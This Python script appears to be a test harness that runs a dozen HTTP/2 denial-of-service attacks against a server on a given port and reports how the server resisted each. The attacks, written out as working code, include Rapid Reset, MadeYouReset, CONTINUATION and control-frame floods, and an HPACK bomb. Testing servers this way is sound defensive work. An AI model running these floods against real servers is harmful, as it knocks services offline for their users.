"""Attacks on an HTTP/2 server: `h2_abuse.py PORT ATTACK`. Prints how far it came and how it ended."""

import struct
import sys
import time

from hpack import Encoder

from h2_frames import *

TOTAL = 200_000


def rapid_reset(peer):
    """HEADERS and RST_STREAM of 10,000 streams (CVE-2023-44487)."""
    part, stream = b"", 1
    for number in range(10_000):
        part += frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/slow")) + frame(RST, 0, stream, struct.pack(">I", 8))
        stream += 2
        if number % 50 == 49:
            if any(peer.goaways) or not peer.send(part, 100):
                return
            part = b""


def paced_reset(peer):
    """The same, each stream on its own: it has begun when it is reset."""
    for number in range(2_000):
        stream = 2 * number + 1
        head = frame(HEADERS, END_STREAM | END_HEADERS, stream, get("/slow"))
        if any(peer.goaways) or not peer.send(head, 1):
            return
        time.sleep(0.0002)
        peer.send(frame(RST, 0, stream, struct.pack(">I", 8)), 1)


def made_you_reset(peer):
    """Streams that the server must reset itself (CVE-2025-8671): a window update of nothing."""
    for number in range(10_000):
        stream = 2 * number + 1
        part = frame(HEADERS, END_HEADERS, stream, get("/slow", method="POST")) + frame(UPDATE, 0, stream, struct.pack(">I", 0))
        if any(peer.goaways) or not peer.send(part, 2):
            return


def continuation(peer):
    peer.send(frame(HEADERS, END_STREAM, 1, get()), 1)
    flood(peer, frame(CONTINUATION, 0, 1, literal("x", "y" * 100) * 150), 1, TOTAL)


def empty_continuation(peer):
    peer.send(frame(HEADERS, END_STREAM, 1, get()), 1)
    flood(peer, frame(CONTINUATION, 0, 1) * 100, 100, TOTAL)


def empty_data(peer):
    peer.send(frame(HEADERS, END_HEADERS, 1, get("/slow", method="POST")), 1)
    flood(peer, frame(DATA, 0, 1) * 100, 100, TOTAL)


def hpack_bomb(peer):
    """400 references to a field of 4 KB, in each of many requests."""
    encoder = Encoder()
    head = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")]
    peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, encoder.encode(head + [("x-bomb", "b" * 3900)])), 1)
    bomb = encoder.encode(head + [("x-bomb", "b" * 3900)] * 400)
    for number in range(1, 2_000):
        if any(peer.goaways) or not peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, bomb), 1):
            return


def settings(peer):
    flood(peer, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 100, 100, TOTAL)


def ping(peer):
    flood(peer, frame(PING, 0, 0, b"12345678") * 100, 100, TOTAL)


def priority(peer):
    flood(peer, frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)) * 100, 100, TOTAL)


def window_update(peer):
    flood(peer, frame(UPDATE, 0, 0, struct.pack(">I", 1)) * 100, 100, TOTAL)


def streams(peer):
    """5,000 streams that stay open."""
    part = b""
    for number in range(5_000):
        part += frame(HEADERS, END_HEADERS, 2 * number + 1, get("/slow", method="POST"))
        if number % 50 == 49:
            if any(peer.goaways) or not peer.send(part, 50):
                return
            part = b""


ATTACKS = {
    it.__name__: it
    for it in [
        rapid_reset, paced_reset, made_you_reset, continuation, empty_continuation, empty_data, hpack_bomb, settings, ping, priority,
        window_update, streams,
    ]
}


def main():
    attack = ATTACKS[sys.argv[2]]
    peer = Peer(int(sys.argv[1]))
    peer.wait(lambda: peer.settings)
    began = time.monotonic()
    attack(peer)
    # What is harmless is answered on: the connection still works.
    is_cut = peer.wait(lambda: peer.closed or any(peer.goaways), 2)
    peer.until_closed(3 if is_cut else 0)
    refused = sum(1 for code in peer.resets.values() if code == 7)
    say(
        frames=peer.sent, cut=bool(is_cut), goaway=peer.goaways[-1] if peer.goaways else None, closed=peer.closed,
        answers=len(peer.heads), refused=refused, ms=int(1000 * (time.monotonic() - began)),
    )


main()
